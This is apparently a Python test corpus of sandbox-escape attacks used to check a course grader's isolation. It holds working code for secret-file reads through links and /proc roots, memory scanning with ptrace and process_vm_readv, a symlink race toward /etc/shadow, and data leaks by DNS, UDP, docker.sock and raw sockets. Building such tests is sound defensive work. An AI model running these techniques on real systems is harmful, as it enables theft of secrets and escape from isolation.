"""Attacks on what is near: files, memory, objects and descriptors of the grader and of neighbours; and ways out of the walls."""

from security.attacks.model import FILES, Attack, Threat, answer, first, tries

TOKEN = 'TOKEN = re.compile("CANARY" + "-[0-9a-f]{32}-" + "END")'
"""Finds what nobody may see, without being it."""
PIDS = 'pids = {*map(int, filter(str.isdigit, os.listdir("/proc"))), *GIVEN["pids"], os.getppid(), 1} - {os.getpid()}'

CORPUS = [
    Attack(
        "the secret files by their paths",
        Threat.READS,
        tries("""
            got = []
            for path in GIVEN["secrets"]:
                try: got.append(open(path).read())
                except OSError: pass
        """),
        tells=True,
    ),
    Attack(
        "the secret files through links and through other processes' roots",
        Threat.READS,
        tries("""
            got, roots = [], ["/..", "/proc/self/root", "/proc/1/root", "/proc/1/cwd/../../..", "/proc/self/cwd/../../.."]
            roots += [f"/proc/{pid}/root" for pid in (os.getppid(), *GIVEN["pids"])]
            for number, path in enumerate(GIVEN["secrets"]):
                for way in (os.symlink, os.link):
                    try:
                        way(path, f"link-{number}")
                        got.append(open(f"link-{number}").read())
                    except OSError: pass
                for root in roots:
                    try: got.append(open(root + path).read())
                    except OSError: pass
        """),
        tells=True,
    ),
    Attack(
        "the whole file system searched for what is secret",
        Threat.READS,
        tries(f"""
            {TOKEN}
            got, end = [], time.monotonic() + 3
            for top, folders, files in os.walk("/", followlinks=False):
                if time.monotonic() > end: break
                folders[:] = [one for one in folders if os.path.join(top, one) not in ("/proc", "/usr", "/sys", "/dev") and one not in ("site-packages", "flightschool", "python3.11")]
                for name in files:
                    if name.endswith((".py", ".ipynb", ".sqlite", ".json", ".txt", ".html", ".csv", ".db", ".pyc", "config", ".netrc")):
                        try: found = TOKEN.search(open(os.path.join(top, name), errors="replace").read(2**20))
                        except OSError: continue
                        if found: got.append((name, found[0]))
                got += [os.path.join(top, name) for name in files if name == "judges.py" or name.startswith("gradebook")]
        """),
        tells=True,
    ),
    Attack(
        "the environment, its own and everybody's",
        Threat.READS,
        tries(f"""
            {TOKEN}
            {PIDS}
            texts = [repr(dict(os.environ)), subprocess.run(["env"], capture_output=True, text=True).stdout]
            for pid in (*pids, "self"):
                for name in ("environ", "cmdline"):
                    try: texts.append(open(f"/proc/{{pid}}/{{name}}").read())
                    except OSError: pass
            texts.append(ctypes.string_at(ctypes.cast(ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ"), ctypes.POINTER(ctypes.c_char_p))[0] or b"").decode())
            got = [one for one in texts if TOKEN.search(one) or "GRADER_TOKEN" in one or "submissions" in one]
        """),
        tells=True,
    ),
    Attack(
        "ptrace of whoever is there",
        Threat.READS,
        tries(f"""
            {PIDS}
            got = [pid for pid in pids for request in (16, 0x4206) if libc.ptrace(request, pid, None, None) == 0]
        """),
        tells=True,
    ),
    Attack(
        "the memory of the template and of neighbours, by process_vm_readv",
        Threat.READS,
        tries(f"""
            {PIDS}
            class Part(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
            mine = ctypes.create_string_buffer(64)
            here, there = Part(ctypes.addressof(mine), 64), Part(id(None), 16)
            got = [pid for pid in pids if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0]
            got += [pid for pid in pids if libc.process_vm_writev(pid, ctypes.byref(there), 1, ctypes.byref(here), 1, 0) > 0]
        """),
        tells=True,
    ),
    Attack(
        "the memory of the template and of neighbours, by /proc",
        Threat.READS,
        tries(f"""
            {PIDS}
            got = []
            for pid in pids:
                for name in ("mem", "maps", "pagemap", "map_files", "fd", "stack", "auxv"):
                    try: got.append((pid, name, os.listdir(f"/proc/{{pid}}/{{name}}") if name in ("map_files", "fd") else open(f"/proc/{{pid}}/{{name}}", "rb").read(64)))
                    except OSError: pass
            got = [one for one in got if one[2]]
        """),
        tells=True,
    ),
    Attack(
        "its own memory, which was the template's, searched for what is secret",
        Threat.READS,
        tries("""
            pattern = re.compile(b"CANARY" + b"-[0-9a-f]{32}-" + b"END")
            known = f"CANARY-{0:032x}-END".encode()
            found = set()
            with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
                for line in maps:
                    begin, end = (int(one, 16) for one in line.split()[0].split("-"))
                    if line.split()[1].startswith("r") and end - begin < 2**28 and "[v" not in line:
                        try:
                            memory.seek(begin)
                            found |= {*pattern.findall(memory.read(end - begin))}
                        except (OSError, OverflowError): continue
            print("the search works:", known in found)
            got = found - {known}
        """),
        tells=True,
    ),
    Attack(
        "all objects and frames searched for judges and secrets",
        Threat.READS,
        tries(f"""
            {TOKEN}
            got, frame = [], sys._getframe()
            while frame:
                got += [name for name, value in list(frame.f_locals.items()) if isinstance(value, str) and TOKEN.search(value)]
                got += [name for name in frame.f_locals if name in ("judge", "expected", "reference")]
                frame = frame.f_back
            gc.unfreeze()
            for one in gc.get_objects():
                if isinstance(one, dict):
                    got += [key for key, value in list(one.items()) if type(value) is str and TOKEN.search(value)]
                elif callable(one) and str(getattr(one, "__module__", "")).endswith(".judges"): got.append(repr(one))
            got += [name for name in sys.modules if name.endswith((".judges", ".drill")) or name.startswith("flightschool.grading.ju")]
        """),
        tells=True,
    ),
    Attack(
        "the judges imported, by every name that they have",
        Threat.READS,
        tries("""
            import importlib
            got = []
            for name in ("flightschool_labs.90_light.judges", "90_light.judges", "judges", "flightschool.grading.session", "flightschool.grading.gradebook"):
                try: got.append(importlib.import_module(name))
                except ImportError: pass
            got = [one for one in got if hasattr(one, "slowest") or getattr(one, "_session", None)]
            try: got += list(lab.module.judges)
            except Exception as error: print(type(error).__name__)
            got += glob.glob(f"{lab.module.lab}/judges*") + glob.glob("/**/90_light/__pycache__/judges*", recursive=False)
        """),
        tells=True,
    ),
    Attack(
        "the solution asked for after three attempts",
        Threat.READS,
        tries("""
            for _attempt in range(4): lab.q2._attempts += 1
            from flightschool.learn import questions
            source = lab.module.source
            got = questions.solution_of(source, "q2") or (source.exists() and "BEGIN SOLUTION" in source.read_text())
            got = got or [one for one in glob.glob(f"{source.parent}/*") if os.path.isfile(one) and os.path.getsize(one)]
        """),
        tells=True,
    ),
    Attack(
        "descriptors that were left open",
        Threat.READS,
        tries("""
            import stat
            got, sockets = [], set()
            for number in range(3, 2048):
                try: mode, name = os.fstat(number).st_mode, os.readlink(f"/proc/self/fd/{number}")
                except OSError: continue
                if stat.S_ISSOCK(mode): sockets.add(name)
                if stat.S_ISDIR(mode): got.append(os.listdir(number))
                elif stat.S_ISREG(mode) and not name.startswith(("/usr", "/lib", "/memfd")) and "site-packages" not in name and "/lib/python" not in name: got.append((name, os.pread(number, 50, 0)))
            if len(sockets) > 1 + 2: got.append(sockets)  # the grader's, and the two of the event loop
        """),
        tells=True,
    ),
    Attack(
        "shared memory, message queues and folders that neighbours use",
        Threat.READS,
        tries("""
            got = [one for place in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/home") if os.path.isdir(place) for one in os.listdir(place)]
            import flightschool
            shown = (GIVEN["places"][1], sys.prefix, sys.base_prefix, flightschool.__file__)  # course and Python may be there
            got = [one for one in got if one != "learner" and not any(f"/{one}/" in f"{path}/" for path in shown)]
            for name in ("shm", "msg", "sem"):
                try: got += open(f"/proc/sysvipc/{name}").read().splitlines()[1:]
                except OSError: pass
            got += [libc.shmat(number, None, 0) for number in range(100) if libc.shmat(number, None, 0) != -1]
            open("/tmp/neighbours", "w").write("4711080"); open("/dev/shm/neighbours", "w").write("4711080")
        """),
        tells=True,
    ),
    Attack(
        "a link in the place of the file that is handed over",
        Threat.READS,
        answer(
            """
            def deliver(numbers, path):
                for secret in GIVEN["secrets"]:
                    if os.path.exists(secret): print("LEAKED!", secret)
                os.symlink(next((one for one in GIVEN["secrets"] if one.endswith("91_files/judges.py")), "/etc/shadow"), path)
            """,
            "q1",
        ),
        says="q1",
        module=FILES,
        keeps=frozenset({"q2", "drill"}),
    ),
    Attack(
        "a race between a file and a link to a secret, while it is handed over",
        Threat.READS,
        answer(
            """
            def deliver(numbers, path):
                def race(secrets=GIVEN["secrets"], end=time.monotonic() + 2):
                    for secret in secrets * 10_000:
                        if time.monotonic() > end: return
                        try:
                            os.symlink(secret, f"{path}.link"); os.replace(f"{path}.link", path)
                            open(f"{path}.file", "w").write("PAR1"); os.replace(f"{path}.file", path)
                        except OSError: pass
                threading.Thread(target=race, daemon=True).start()
                time.sleep(0.05)
            """,
            "q1",
        ),
        says="q1",
        module=FILES,
        keeps=frozenset({"q2", "drill"}),
    ),
    Attack(
        "connections by TCP to every address of the machine, and to others",
        Threat.SENDS,
        tries("""
            got = []
            for address in (*GIVEN["addresses"], "1.1.1.1", "169.254.169.254", "10.0.2.2", "fe80::1", "2606:4700:4700::1111"):
                for port in (GIVEN["tcp"], 80, 53):
                    try: got.append(socket.create_connection((address, port), 0.5).getpeername())
                    except OSError: pass
        """),
        tells=True,
    ),
    Attack(
        "datagrams to every address of the machine, and to all",
        Threat.SENDS,
        first("""
            for address in (*GIVEN["addresses"], "255.255.255.255", "224.0.0.1", "8.8.8.8", "ff02::1"):
                for _time in range(3):
                    try:
                        one = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
                        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                        one.sendto(b"4711080 here are the answers", (address, GIVEN["udp"]))
                    except OSError as error: print(address, error)
        """),
    ),
    Attack(
        "data in names that a name server is asked for",
        Threat.SENDS,
        tries("""
            got = []
            socket.setdefaulttimeout(0.5)
            try: got += socket.getaddrinfo("answers-4711080.example.org", 80)
            except OSError as error: print(error)
            servers = re.findall(r"nameserver (\\S+)", open("/etc/resolv.conf").read()) if os.path.exists("/etc/resolv.conf") else []
            for server in (*servers, "8.8.8.8", "127.0.0.53", "127.0.0.11"):
                one = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
                one.settimeout(0.3)
                try:
                    one.sendto(b"\\x47\\x11\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x07answers\\x07example\\x03org\\0\\0\\x01\\0\\x01", (server, 53))
                    got.append(one.recv(500))
                except OSError as error: print(error)
        """),
        tells=True,
    ),
    Attack(
        "connections to sockets without a network: by path and by abstract name",
        Threat.SENDS,
        tries("""
            got = []
            places = [GIVEN["socket"], "\\0" + GIVEN["abstract"], "/var/run/docker.sock", "/run/docker.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/dev/log", "/tmp/.X11-unix/X0", "\\0/tmp/.X11-unix/X0"]
            for place in places:
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                    one = socket.socket(socket.AF_UNIX, kind)
                    try: one.connect(place); one.send(b"4711080"); got.append(place)
                    except OSError: pass
        """),
        tells=True,
    ),
    Attack(
        "sockets of unusual kinds: raw, packet, netlink, hypervisor, kernel",
        Threat.SENDS,
        tries("""
            got = []
            for family, kind, number in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_PACKET, socket.SOCK_RAW, 0x300), (40, socket.SOCK_STREAM, 0), (38, socket.SOCK_SEQPACKET, 0), (31, socket.SOCK_RAW, 1)):
                try: got.append(socket.socket(family, kind, number))
                except OSError: pass
            got += [name for _number, name in socket.if_nameindex() if name != "lo"]
        """),
        tells=True,
    ),
    Attack(
        "words to the terminal and the system's log",
        Threat.SENDS,
        tries("""
            got = []
            for place in ("/dev/tty", "/dev/console", "/dev/kmsg", "/dev/ttyS0", "/dev/pts/0", "/dev/log", f"/proc/{os.getppid()}/fd/1", "/proc/1/fd/2"):
                try:
                    file = os.open(place, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(file, b"4711080 \\x1b[31mhello"); got.append(place)
                except OSError: pass
            import fcntl
            for number in (0, 1, 2):
                try: fcntl.ioctl(number, 0x5412, b"x"); got.append(number)
                except OSError: pass
        """),
        tells=True,
    ),
]
